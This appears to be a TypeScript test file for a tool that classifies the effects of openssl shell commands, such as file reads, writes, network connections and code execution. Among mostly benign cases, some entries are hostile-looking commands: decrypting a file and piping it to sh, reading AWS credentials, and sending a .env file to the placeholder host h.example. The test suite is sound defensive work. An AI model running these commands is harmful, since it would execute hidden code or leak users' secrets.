import { testEffects } from "../../../support/effects-of.ts";

testEffects("openssl", [
  { run: "openssl version", effects: [] },
  {
    run: "openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem",
    effects: [
      "write truncate /home/dev/project/key.pem",
      "write truncate /home/dev/project/cert.pem = …",
    ],
  },
  {
    run: "openssl enc -d -aes-256-cbc -in a.enc | sh",
    effects: [
      "read flows /home/dev/project/a.enc",
      "code shell … {decoded openssl enc}",
      "output … {decoded openssl enc}",
    ],
  },
  {
    run: "openssl enc -in ~/.aws/credentials",
    effects: [
      "read flows /home/dev/.aws/credentials",
      "output … {secret /home/dev/.aws/credentials}",
    ],
  },
  {
    run: "openssl enc -aes-256-cbc -in a -out b",
    effects: ["read flows /home/dev/project/a", "write truncate /home/dev/project/b = …"],
  },
  {
    run: "openssl x509 -in cert.pem -noout -text",
    effects: ["read measured /home/dev/project/cert.pem"],
  },
  {
    run: "openssl rsa -in server.key",
    effects: ["read flows /home/dev/project/server.key", "output … {secret server.key}"],
  },
  {
    run: "openssl rsa -in server.key -pubout",
    effects: ["read measured /home/dev/project/server.key"],
  },
  {
    run: "openssl s_client -connect h.example:443",
    effects: ["connect h.example:443", "output … {network h.example:443}"],
  },
  {
    run: "cat .env | openssl s_client -quiet -connect h.example:443",
    effects: [
      "read flows /home/dev/project/.env",
      "connect h.example:443 sends … {secret .env}",
      "output … {network h.example:443}",
    ],
  },
  { run: "openssl s_server -accept 4433", effects: ["listen offers=application"] },
  { run: "openssl req -engine ./lib.so", effects: ["code library …"] },
  { run: "openssl dgst -sha256 a", effects: ["read measured /home/dev/project/a"] },
  { run: "openssl rand -hex 16", effects: [] },
  {
    run: 'openssl "$(cat v)"',
    effects: [
      "read flows /home/dev/project/v",
      "opaque openssl: the command of openssl is not known",
    ],
  },
]);
